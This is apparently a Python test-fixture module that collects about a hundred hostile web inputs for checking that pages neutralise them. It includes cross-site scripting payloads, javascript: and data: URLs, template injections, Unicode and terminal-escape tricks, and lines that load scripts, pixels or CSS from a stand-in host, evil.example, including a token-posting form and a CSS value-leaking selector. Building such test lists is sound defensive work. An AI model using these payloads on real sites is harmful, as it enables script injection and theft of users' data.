"""A hundred texts by which pages are attacked, one of each kind: no page may run one, or ask for what it names."""

from __future__ import annotations

_ELSEWHERE = "https://evil.example"

ELEMENTS = (
    "<script>alert(1)</script>",
    f"<script src='{_ELSEWHERE}/x.js'></script>",
    "<script type=module>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src='javascript:alert(1)'>",
    f"<object data='{_ELSEWHERE}/x.swf'></object>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    f"<embed src='{_ELSEWHERE}/x'>",
    f"<base href='{_ELSEWHERE}/'>",
    f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}'>",
    f"<link rel=stylesheet href='{_ELSEWHERE}/x.css'>",
    f"<link rel=preload as=script href='{_ELSEWHERE}/x.js'>",
    f"<style>@import '{_ELSEWHERE}/x.css';</style>",
    f"<form action='{_ELSEWHERE}'><input name=token><button>Sign in</button></form>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>",
    f"<portal src='{_ELSEWHERE}'></portal>",
)
HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img src=`x`onerror=alert(1)>",
    f"<img src='{_ELSEWHERE}/pixel.png'>",
    f"<img srcset='{_ELSEWHERE}/a.png 1x'>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style='animation:x 1s' onanimationstart=alert(1)>",
    "<button popovertarget=x onclick=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
)
VECTORS = (
    '"><svg onload=alert(1)>',
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><foreignObject><iframe src='javascript:alert(1)'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "blob:https://evil.example/1",
    "//evil.example/x.js",
    "https://user:secret@evil.example/",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='//evil.example' target=_blank rel=opener>x</a>",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "- [ ] <img src=x onerror=alert(1)>",
    "| a | <script>alert(1)</script> |",
)
TEMPLATES = (
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= alert(1) %>",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "#{alert(1)}",
    "{7*7}",
)
NAMES_OF_OBJECTS = (
    "__proto__",
    "constructor",
    "hasOwnProperty",
    "toString",
    "<a id=location name=href>",
    "<img name=body>",
)
STYLES = (
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "red;} body{background:url(https://evil.example/x)}",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "expression(alert(1))",
)
CHARACTERS = (
    "\u202egnp.exe",
    "zero\u200bwidth\u200djoined",
    "\ufeff<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "Z\u0300\u0301\u0302\u0303\u0304" * 8,
    "a" * 180,
)
TERMINALS = (
    "\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07",
    "\x1b[31m<script>alert(1)</script>\x1b[0m",
    "\x1b[2J\x1b[Hclean",
    "50%\r<img src=x onerror=alert(1)>",
)
HOSTILE = (
    *ELEMENTS,
    *HANDLERS,
    *VECTORS,
    *ADDRESSES,
    *MARKDOWN,
    *TEMPLATES,
    *NAMES_OF_OBJECTS,
    *STYLES,
    *CHARACTERS,
    *TERMINALS,
)
